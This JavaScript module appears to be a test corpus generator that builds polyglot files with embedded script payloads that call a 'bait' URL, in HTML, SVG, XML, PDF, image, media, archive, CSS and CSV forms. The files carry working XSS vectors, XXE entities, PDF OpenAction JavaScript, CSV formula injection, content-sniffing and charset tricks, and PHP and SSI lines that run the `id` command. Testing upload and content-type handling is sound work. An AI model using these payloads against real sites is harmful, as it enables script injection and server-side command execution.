// Files that are one thing to one reader and another to the next. Each would be seen at a bait, or by whoever opened it, if anything of it ran.

/** What a script does: calls the bait, tells whoever opened it, and marks its origin. It holds no character that HTML, XML or CSS would mind. */
const script = bait => `(function(b){try{document.title='executed'}catch(e){}try{document.cookie='executed=1;path=/'}catch(e){}try{localStorage.setItem('executed',b)}catch(e){}`
  + `[self.opener,self.parent,self.top].forEach(function(w){try{w.postMessage(b,'*')}catch(e){}});try{fetch(b,{mode:'no-cors'})}catch(e){}try{new Image().src=b}catch(e){}})('${bait}');`

const bytes = text => Buffer.from(text, 'latin1')
const u16 = (text, mark) => Buffer.concat([bytes(mark), Buffer.from(text, 'utf16le')])
const u32 = (number, write = 'writeUInt32BE') => { const made = Buffer.alloc(4); made[write](number); return made.toString('latin1') }
/** A part of a PNG; its checksum is one that browsers don't look at in text. */
const chunk = (type, content) => `${u32(content.length)}${type}${content}\0\0\0\0`
const riff = (form, content) => `RIFF${u32(content.length + 4, 'writeUInt32LE')}${form}${content}`
const box = (type, content) => `${u32(content.length + 8)}${type}${content}`

/** A page whose opening does what `actions` say, each a PDF action. */
function pdf(...actions) {
  const chain = actions.reduceRight((next, action) => `<< /Type /Action ${action} ${next && `/Next ${next}`} >>`, '')
  const objects = [`<< /Type /Catalog /Pages 2 0 R /OpenAction ${chain} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>']
  let text = '%PDF-1.7\n'
  const places = objects.map((object, i) => { const at = text.length; text += `${i + 1} 0 obj\n${object}\nendobj\n`; return `${String(at).padStart(10, '0')} 00000 n \n` })
  return `${text}xref\n0 4\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
}

const svg = (content, more = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${more}>${content}</svg>`
const xhtml = js => `<script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`

/** Markup that runs by itself. */
const pages = (bait, js, tag) => ({
  'page.html': ['text/html', `<!doctype html>${tag}`],
  'error.htm': ['text/html', `<img src=/none onerror="${js}">`],
  'onload.html': ['text/html', `<body onload="${js}">`],
  'toggle.html': ['text/html', `<details open ontoggle="${js}">`],
  'focus.html': ['text/html', `<input autofocus onfocus="${js}">`],
  'video.html': ['text/html', `<video><source onerror="${js}"></video>`],
  'srcdoc.html': ['text/html', `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  'data.html': ['text/html', `<iframe src="data:text/html,${encodeURIComponent(tag)}"></iframe>`],
  'object.html': ['text/html', `<object data="data:text/html;base64,${btoa(tag)}"></object>`],
  'javascript.html': ['text/html', `<iframe src="javascript:${js}"></iframe>`],
  'svg.html': ['text/html', `<svg><script>${js}</script></svg>`],
  'math.html': ['text/html', `<math><mtext><img src=/none onerror="${js}"></mtext></math>`],
  'noscript.html': ['text/html', `<noscript><p title="</noscript>${tag.replaceAll('"', '')}">`],
  'refresh.html': ['text/html', `<meta http-equiv=refresh content="0;url=${bait}">`],
  'base.html': ['text/html', `<base href="${bait}"><script src=""></script><img src="?">`],
  'rules.html': ['text/html', `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${bait}"]}]}</script>`],
  'form.html': ['text/html', `<form action="${bait}" id=f></form><img src=/none onerror="f.submit()">`],
  'php.php': ['text/html', `<?php system('id'); ?>${tag}`],
  'shtml.shtml': ['text/html', `<!--#exec cmd="id" -->${tag}`],
  'hta.hta': ['application/hta', `<hta:application>${tag}`],
  'component.htc': ['text/x-component', `<public:attach event=oncontentready>${tag}`],
  'xhtml.xhtml': ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><script>${js}</script></body></html>`],
  'mail.mht': ['multipart/related; boundary=x', `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${tag}\r\n--x--\r\n`],
  'mixed.html': ['multipart/x-mixed-replace; boundary=x', `--x\r\nContent-Type: text/html\r\n\r\n${tag}\r\n--x\r\n`],
  'mail.eml': ['message/rfc822', `Subject: x\r\nContent-Type: text/html\r\n\r\n${tag}`],
})

/** Vector pictures, and XML that a browser reads as more than data. */
const xml = (bait, js) => ({
  'onload.svg': ['image/svg+xml', svg('', ` onload="${js}"`)],
  'script.svg': ['image/svg+xml', svg(`<script>${js}</script>`)],
  'animate.svg': ['image/svg+xml', svg(`<rect width="9" height="9"><animate onbegin="${js}" attributeName="x" dur="1s"/></rect>`)],
  'set.svg': ['image/svg+xml', svg(`<set onbegin="${js}" attributeName="x" to="1" dur="1s"/>`)],
  'foreign.svg': ['image/svg+xml', svg(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="/none" onerror="${js}"/></body></foreignObject>`)],
  'href.svg': ['image/svg+xml', svg(`<script xlink:href="data:text/javascript,${encodeURIComponent(js).replaceAll("'", '%27')}"/>`)],
  'image.svg': ['image/svg+xml', svg(`<image width="9" height="9" href="${bait}"/>`)],
  'style.svg': ['image/svg+xml', `<?xml-stylesheet type="text/css" href="${bait}"?>${svg(`<style>@import url(${bait});</style>`)}`],
  'entity.svg': ['image/svg+xml', `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;${js}&#60;/script&#62;">]>${svg('&x;')}`],
  'sheet.xml': ['text/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(`<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><script>${js}</script></x:template></x:stylesheet>`).replaceAll("'", '%27')}"?><x/>`],
  'page.xml': ['application/xml', `<x>${xhtml(js)}</x>`],
  'external.xml': ['text/xml', `<!DOCTYPE x [<!ENTITY % d SYSTEM "${bait}"> %d; <!ENTITY e SYSTEM "${bait}">]><x>&e;</x>`],
  'style.xsl': ['text/xsl', `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0">${xhtml(js)}</x:stylesheet>`],
  'feed.rss': ['application/rss+xml', `<rss version="2.0"><channel>${xhtml(js)}</channel></rss>`],
  'feed.atom': ['application/atom+xml', `<feed xmlns="http://www.w3.org/2005/Atom">${xhtml(js)}</feed>`],
  'graph.rdf': ['application/rdf+xml', `<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">${xhtml(js)}</r:RDF>`],
  'formula.mml': ['application/mathml+xml', `<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi>${xhtml(js)}</math>`],
  'show.smil': ['application/smil+xml', `<smil xmlns="http://www.w3.org/2001/SMIL20/Language"><body>${xhtml(js)}</body></smil>`],
  'window.xul': ['application/vnd.mozilla.xul+xml', `<window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul" onload="${js}">${xhtml(js)}</window>`],
  'binding.xbl': ['text/xml', `<bindings xmlns="http://www.mozilla.org/xbl"><binding id="x"><implementation><constructor>${js}</constructor></implementation></binding></bindings>`],
  'crossdomain.xml': ['text/xml', `<cross-domain-policy><allow-access-from domain="*"/>${xhtml(js)}</cross-domain-policy>`],
})

/** Pictures, sounds, films, archives and programs that are markup or a script too. */
const binaries = (bait, js, tag) => ({
  'gif.js': ['text/javascript', `GIF89a/*\x01\0\x01\0\0\0*/=1;${js}`],
  'gif.html': ['text/html', `GIF89a${tag}`],
  'gif.gif': ['image/gif', `GIF89a\x01\0\x01\0\0\0\0!\xFE${tag}\0;`],
  'png.html': ['text/html', `\x89PNG\r\n\x1a\n${chunk('IHDR', '\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0')}${chunk('tEXt', `x\0${tag}`)}`],
  'jpeg.html': ['text/html', `\xFF\xD8\xFF\xFE\x7F\x7F${tag}\xFF\xD9`],
  'jpeg.js': ['text/javascript; charset=iso-8859-1', `\xFF\xD8\xFF\xE0/*JFIF*/=1;${js}`],
  'bmp.js': ['text/javascript', `BM/*\0\0\0\0*/=1;${js}`],
  'webp.html': ['text/html', riff('WEBP', `VP8 ${tag}`)],
  'webp.js': ['text/javascript', `RIFF/*${riff('WEBP', 'VP8 ')}*/=1;${js}`],
  'avif.html': ['text/html', `${box('ftyp', 'avif\0\0\0\0avifmif1')}${box('free', tag)}`],
  'icon.ico': ['text/html', `\0\0\x01\0\x01\0\x10\x10${tag}`],
  'film.html': ['text/html', `${box('ftyp', 'isom\0\0\x02\0isom')}${box('free', tag)}`],
  'webm.html': ['text/html', `\x1A\x45\xDF\xA3\x9F\x42\x82\x84webm\xEC${tag}`],
  'wav.html': ['text/html', riff('WAVE', `LIST${tag}`)],
  'wav.js': ['text/javascript', `RIFF=/*WAVEfmt \0\0*/1;${js}`],
  'mp3.html': ['text/html', `ID3\x03\0\0\0\0\x0F\x76COMM${tag}`],
  'ogg.html': ['text/html', `OggS\0\x02${tag}`],
  'flac.html': ['text/html', `fLaC\0\0\0\x22${tag}`],
  'words.vtt': ['text/vtt', `WEBVTT\n\nSTYLE\n::cue{background:url(${bait})}\n\n00:00.000 --> 00:09.000\n${tag}\n`],
  'zip.html': ['text/html', `PK\x03\x04\x14\0\0\0\0\0${tag}PK\x05\x06${'\0'.repeat(18)}`],
  'applet.jar': ['application/java-archive', `PK\x03\x04META-INF/MANIFEST.MF${tag}`],
  'extension.xpi': ['application/x-xpinstall', `PK\x03\x04manifest.json${tag}`],
  'film.swf': ['application/x-shockwave-flash', `CWS\x09${tag}`],
  'gzip.html': ['text/html', `\x1F\x8B\x08\0${tag}`],
  'module.wasm': ['application/wasm', `\0asm\x01\0\0\0\0${String.fromCharCode(js.length % 128)}${js}`],
  'wasm.html': ['text/html', `\0asm\x01\0\0\0${tag}`],
  'font.woff2': ['font/woff2', `wOF2${tag}`],
  'pdf.html': ['text/html', `%PDF-1.7\n${tag}`],
  'script.pdf': ['application/pdf', pdf(`/S /JavaScript /JS (${js.replaceAll('\\', '\\\\').replaceAll('(', '\\(').replaceAll(')', '\\)')})`)],
  'calls.pdf': ['application/pdf', pdf(`/S /JavaScript /JS (try { this.submitForm\\('${bait}'\\) } catch \\(e\\) {} try { app.launchURL\\('${bait}'\\) } catch \\(e\\) {} try { this.getURL\\('${bait}'\\) } catch \\(e\\) {})`)],
  'link.pdf': ['application/pdf', pdf(`/S /URI /URI (${bait})`, `/S /SubmitForm /F (${bait})`, `/S /GoToR /F (${bait})`)],
})

/** Scripts, styles and what else a page may name. */
const parts = (bait, js, tag) => ({
  'plain.js': ['text/javascript', js],
  'module.mjs': ['text/javascript', `import '${bait}';export default 1`],
  'worker.js': ['text/javascript', `${js}self.onfetch=function(e){e.respondWith(new Response(${JSON.stringify(tag)}))}`],
  'imports.js': ['text/javascript', `importScripts('${bait}')`],
  'mapped.js': ['text/javascript', `${js}\n//# sourceMappingURL=${bait}`],
  'comment.js': ['text/javascript', `<!--\n${js}\n-->`],
  'old.vbs': ['text/vbscript', js],
  'text.txt': ['text/plain', js],
  'answer.json': ['application/json', `[1];${js}`],
  'jsonp.json': ['application/json', `(function(x){${js}})({"a":1})`],
  'map.importmap': ['application/importmap+json', `{"imports":{"x":"${bait}"}}`],
  'app.webmanifest': ['application/manifest+json', `{"name":"x","start_url":"${bait}","icons":[{"src":"${bait}","sizes":"any"}]}`],
  'cache.appcache': ['text/cache-manifest', `CACHE MANIFEST\n${bait}\nFALLBACK:\n/ /${tag}\n`],
  'style.css': ['text/css', `*{background:url(${bait})}`],
  'import.css': ['text/css', `@import url(${bait});`],
  'fonts.css': ['text/css', `@font-face{font-family:x;src:url(${bait})}*{font-family:x}`],
  'behaviour.css': ['text/css', `*{behavior:url(${bait});-moz-binding:url(${bait}#x);width:expression(${js});background:url(javascript:${js})}`],
  'css.html': ['text/html', `{}*{background:url(${bait})}${tag}`],
  'link.url': ['application/internet-shortcut', `[InternetShortcut]\nURL=${bait}\nIconFile=${bait}\n`],
  'launch.jnlp': ['application/x-java-jnlp-file', `<jnlp codebase="${bait}"/>`],
  'card.vcf': ['text/vcard', `BEGIN:VCARD\nNOTE:${tag}\nEND:VCARD\n`],
  'table.csv': ['text/csv', `=HYPERLINK("${bait}"),${tag}`],
})

/** What a browser takes for markup by its first bytes or by its script, whatever its name is. `undefined`: told no type. */
const sniffed = (bait, js, tag) => ({
  'no-type': [undefined, `<!doctype html>${tag}`],
  'no-type-script': [undefined, tag],
  'no-type-spaces': [undefined, `\n\t \r\n<html>${tag}`],
  'no-type-comment': [undefined, `<!-- x -->${tag}`],
  'no-type-svg': [undefined, `<?xml version="1.0"?>${svg(`<script>${js}</script>`)}`],
  'no-type-marked': [undefined, `\xEF\xBB\xBF<html>${tag}`],
  'odd-type': ['unknown/unknown', `<html>${tag}`],
  'two-types': ['text/plain, text/html', `<html>${tag}`],
  'utf8.html': ['text/html', `\xEF\xBB\xBF${tag}`],
  'utf16.html': ['text/html', u16(tag, '\xFF\xFE')],
  'utf16-swapped.html': ['text/html', u16(tag, '\xFE\xFF').map((byte, i, all) => (i < 2 ? byte : all[i ^ 1]))],
  'utf16-unmarked.html': ['text/html; charset=utf-16le', u16(tag, '')],
  'utf16.js': ['text/javascript', u16(js, '\xFF\xFE')],
  'utf7.html': ['text/html; charset=utf-7', `<meta charset=utf-7>+ADw-script+AD4-${js}+ADw-/script+AD4-`],
  'utf7-marked.txt': ['text/plain', `+/v8-+ADw-script+AD4-${js}+ADw-/script+AD4-`],
  'japanese.html': ['text/html', `<meta charset=iso-2022-jp><img alt="\x1B$B"><img title="\x1B(B"><img src=/none onerror="${js}">`],
  'nul.html': ['text/html', `\0${tag}`],
  'nuls.html': ['text/html', `<\0html>\0\0${tag}`],
  'spaces.html': ['text/html', `${' \n\t'.repeat(400)}${tag}`],
  'late.html': ['text/html', `${'x'.repeat(2000)}${tag}`],
  empty: [undefined, ''],
})

/** All of them, as `{ name, type, body }`: the type is what a plain server would tell. `baitOf(name)` is the address that each calls. */
export const polyglots = baitOf => [pages, xml, binaries, parts, sniffed].flatMap(group => Object.keys(group('', '', '')).map(name => {
  const js = script(baitOf(name))
  const [type, body] = group(baitOf(name), js, `<script>${js}</script>`)[name]
  return { name, type, body: typeof body === 'string' ? bytes(body) : body }
}))
